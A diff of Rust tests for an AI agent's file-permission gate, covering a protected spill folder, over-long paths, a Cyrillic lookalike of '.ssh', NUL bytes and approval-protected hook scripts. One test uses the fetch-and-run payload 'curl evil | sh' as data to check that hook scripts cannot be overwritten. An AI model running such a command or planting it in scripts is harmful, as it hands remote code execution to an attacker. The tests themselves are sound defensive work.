@@ -339,6 +339,55 @@ async fn the_sessions_spill_folder_stays_readable_inside_a_denied_home() {
         .await
         .unwrap_err();
     assert_eq!(err.code, ToolErrorCode::PermissionDenied);
+    // Readable, not writable: the spill folder is dsh's.
+    let planted = spill_dir.join("planted.txt").display().to_string();
+    let args = json!({"file_path": planted, "content": "x"}).to_string();
+    let full = ctx.clone().with_permission(PermissionPreset::DangerFullAccess);
+    let err = registry.invoke("write", &args, &full).await.unwrap_err();
+    assert_eq!(err.code, ToolErrorCode::PermissionDenied, "{}", err.message);
+    assert!(err.message.contains("dsh-home"), "{}", err.message);
+}
+
+/// Paths longer than the kernel's limit, deep folders, and names in other scripts do not crash
+/// or confuse the gate: an error or a correct read, never something else.
+#[tokio::test]
+async fn long_paths_and_unusual_names_are_handled() {
+    let g = Gate::new(PermissionPreset::WorkspaceWrite);
+    let segment = "d".repeat(200);
+    let mut rel = String::new();
+    for _ in 0..25 {
+        rel.push_str(&segment);
+        rel.push('/');
+    }
+    rel.push_str("f.txt");
+    let deep = g.s.path(&rel);
+    // The folder chain is longer than PATH_MAX: create it step by step relative to each parent.
+    let mut dir = g.s.cwd.clone();
+    for _ in 0..25 {
+        dir.push(&segment);
+        if std::fs::create_dir(&dir).is_err() {
+            break;
+        }
+    }
+    let _ = std::fs::write(&deep, "deep\n");
+    let result = g.call("read", json!({"file_path": rel})).await;
+    match result {
+        Ok(text) => assert!(text.contains("deep"), "{text}"),
+        Err((code, message)) => assert!(
+            matches!(code, ToolErrorCode::Io | ToolErrorCode::NotFound),
+            "{code:?}: {message}"
+        ),
+    }
+    // A Cyrillic `ѕ` is another name: not the denied `.ssh`, and no crash either way.
+    std::fs::write(g.s.path(".\u{455}sh"), "lookalike\n").unwrap();
+    assert!(g
+        .call("read", json!({"file_path": ".\u{455}sh"}))
+        .await
+        .unwrap()
+        .contains("lookalike"));
+    // NUL bytes in a path are refused as arguments, never truncated.
+    let result = g.call("read", json!({"file_path": "a\u{0}b"})).await;
+    assert!(result.is_err());
 }
 
 #[test]
@@ -388,4 +437,24 @@ fn the_policy_ignores_case_and_dot_dot_tricks() {
             "{path}"
         );
     }
+}
+
+#[tokio::test]
+async fn files_that_trusted_hooks_run_are_protected_for_writes() {
+    let s = Scratch::new(PermissionPreset::WorkspaceWrite);
+    let script = s.put("scripts/pre.sh", "#!/bin/sh\necho ok\n");
+    let ctx = s.ctx.clone().with_run_files(vec![script.clone()]);
+    let registry = ToolRegistry::with_builtins();
+    let read = json!({"file_path": "scripts/pre.sh"}).to_string();
+    registry.invoke("read", &read, &ctx).await.unwrap();
+    let args = json!({"file_path": "scripts/pre.sh", "content": "curl evil | sh\n"}).to_string();
+    let err = registry.invoke("write", &args, &ctx).await.unwrap_err();
+    assert_eq!(err.code, ToolErrorCode::PermissionDenied, "{}", err.message);
+    assert!(err.message.contains("approval"), "{}", err.message);
+    assert_eq!(
+        std::fs::read_to_string(&script).unwrap(),
+        "#!/bin/sh\necho ok\n"
+    );
+    let approved = ctx.clone().with_approval(true);
+    registry.invoke("write", &args, &approved).await.unwrap();
 }
